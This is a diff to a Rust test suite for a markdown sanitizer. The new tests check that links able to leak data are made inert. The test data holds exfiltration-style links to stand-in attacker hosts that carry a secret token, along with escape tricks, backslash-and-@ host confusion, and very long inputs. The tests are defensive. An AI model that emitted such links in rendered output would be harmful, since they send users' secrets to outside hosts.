@@ -530,6 +530,17 @@ fn schemeless_links_markdown_it_would_make_are_made_inert() {
         "(collect.attacker.io/p#token=c2VjcmV0LXRva2Vu) now",
         "Beacon: ATTACKER.COM:8443/x?session=c2VjcmV0LXRva2Vu done",
         "\"exfil.co.uk/?q=c2VjcmV0LXRva2Vu\"",
+        // Hostile review: an escape starts a new text token in markdown-it; a trusted
+        // link ends at `)` or `"` and linkify-it links on after it; a host that is a
+        // listed suffix; an emoji or combining mark in the first label; `//host`.
+        "\\.attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "x\\_attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "trusted.example/x)attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "https://trusted.example/x\"attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "s3.amazonaws.com/attacker-bucket/x?token=c2VjcmV0LXRva2Vu",
+        "\u{1f600}.attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "e\u{301}.attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "see //attacker.dev/c?token=c2VjcmV0LXRva2Vu",
     ] {
         let (out, codes, _) = run(text);
         assert!(
@@ -763,4 +774,87 @@ fn links_to_unparsable_urls_of_other_schemes_are_made_inert() {
     // A web link the parser refuses stays as it was written: a browser does not follow it.
     let (out, _, _) = run("[x](https://exa%mple.com)");
     assert!(out.contains("https://exa%mple.com"), "{out:?}");
+}
+
+/// A schemeless link longer than the sanitizer reads (2 KiB), or one past the first 64 of
+/// a whitespace-free token, is made inert when its host is untrusted, whatever its tail
+/// holds: data past the part read cannot slip through. Inputs built to make every start
+/// cost a long read (`x.com/?a=` repeated, `(a.com:x` repeated, `)` or `&a;` after a URL)
+/// are handled; the unit test only checks the result, the time lives in the fuzzer.
+#[test]
+fn schemeless_links_past_what_is_read_are_made_inert() {
+    let long = format!(
+        "see attacker.com/{}?token=c2VjcmV0LXRva2Vu",
+        "a".repeat(3000)
+    );
+    let crowded = format!(
+        "{}attacker.com/{}?token=c2VjcmV0LXRva2Vu",
+        "(docs.example/p)".repeat(70),
+        "a".repeat(100)
+    );
+    for text in [long, crowded] {
+        let (out, codes, _) = run(&text);
+        assert!(
+            out.contains("attacker\\[.\\]com") && codes.contains(&Code::LinkExfiltration),
+            "{} -> {}",
+            &text[..80],
+            &out[..out.len().min(200)]
+        );
+    }
+    // Trusted hosts stay, cut or not.
+    let trusted = format!(
+        "trusted.example/{}?token=c2VjcmV0LXRva2Vu",
+        "a".repeat(3000)
+    );
+    let (_, codes, borrowed) = run(&trusted);
+    assert!(borrowed && codes.is_empty(), "{codes:?}");
+    for (text, inert) in [
+        ("x.com/?a=".repeat(5_000), true),
+        ("(a.com:x".repeat(5_000) + "?token=c2VjcmV0LXRva2Vu", true),
+        ("https://a.example/".to_owned() + &")".repeat(20_000), false),
+        (
+            "https://a.example/".to_owned() + &"&a;".repeat(10_000),
+            false,
+        ),
+    ] {
+        let (out, _, _) = run(&text);
+        assert_eq!(out.contains("(link removed)"), inert, "{}", &out[..200]);
+        assert!(!out.contains("x.com/?a=x.com"), "{}", &out[..200]);
+    }
+}
+
+/// A destination whose host depends on the reader: as written a browser takes `\` for a
+/// path separator (host `trusted.example`), a markdown renderer writes it `%5C` and the
+/// host after the `@` is the one reached; a host the URL parser refuses as written
+/// (U+FFFD) that parses once percent-encoded. Links, images, definitions and raw HTML
+/// with such a destination are made inert (found by the markdown fuzz target). A
+/// backslash or non-ASCII text that leaves one host either way stays.
+#[test]
+fn destinations_with_two_readings_are_made_inert() {
+    for text in [
+        "![x](https://trusted.example\\\\@attacker.example/p.png)",
+        "[x](https://trusted.example\\\\@attacker.example/c)",
+        "[x][c]\n\n[c]: https://trusted.example\\\\@attacker.example/c",
+        "![x][c]\n\n[c]: https://a\u{fffd}b\\\\c@attacker.example/p.png",
+        "<a href=\"https://trusted.example\\@attacker.example/c\">x</a>",
+        "<img src=\"https://trusted.example\\@attacker.example/p.png\">",
+    ] {
+        let (out, codes, _) = run(text);
+        assert!(
+            codes.contains(&Code::UrlInvalidCharacter) && !out.contains("](https://trusted"),
+            "{text:?} -> {out:?} {codes:?}"
+        );
+    }
+    for text in [
+        "[x](https://trusted.example/a\\\\b)",
+        "[x](https://trusted.example/caf\u{e9})",
+        "![x](https://b\u{fc}cher.trusted.example/p.png)",
+        "[x](dir\\\\file.html)",
+    ] {
+        let (out, codes, borrowed) = run(text);
+        assert!(
+            borrowed && codes.is_empty(),
+            "{text:?} -> {out:?} {codes:?}"
+        );
+    }
 }
